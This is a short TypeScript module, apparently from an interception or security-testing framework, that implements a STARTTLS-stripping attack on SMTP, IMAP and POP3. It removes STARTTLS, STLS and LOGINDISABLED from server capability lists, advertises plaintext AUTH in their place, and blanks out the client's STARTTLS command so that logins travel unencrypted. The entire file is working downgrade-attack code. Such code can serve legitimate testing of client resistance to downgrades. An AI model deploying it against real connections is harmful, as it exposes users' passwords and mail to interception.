import type { Attack } from './attack.ts'
import { intercept } from './interception.ts'

/**
 * Keeps TLS from coming about where it begins with a command: takes the offer out of every list, and makes the
 * command unreadable, for a client that asks without an offer. What warns a client of a login in clear goes too.
 *
 * @see RFC 3207 §6, RFC 9051 §11.1
 */
export const blockStarttls: Attack = {
  does: 'take STARTTLS, STLS and LOGINDISABLED out of what the server offers, and overwrite the command itself',
  start: () =>
    intercept((direction, payload) => {
      const text = payload.toString('latin1')
      const changed =
        direction === 'c2s'
          ? text.replace(/(STARTTLS|STLS)\r\n$/i, (command) => `${'X'.repeat(command.length - 2)}\r\n`)
          : text
              .replace('250-STARTTLS\r\n', '250-AUTH PLAIN LOGIN\r\n')
              .replace(/^(\* (?:OK \[)?CAPABILITY .*)$/m, (list) => list.replace(/ (STARTTLS|LOGINDISABLED)\b/g, ''))
              .replace(/^STLS\r\n/m, 'USER\r\n')
      return changed === text ? payload : Buffer.from(changed, 'latin1')
    }),
}
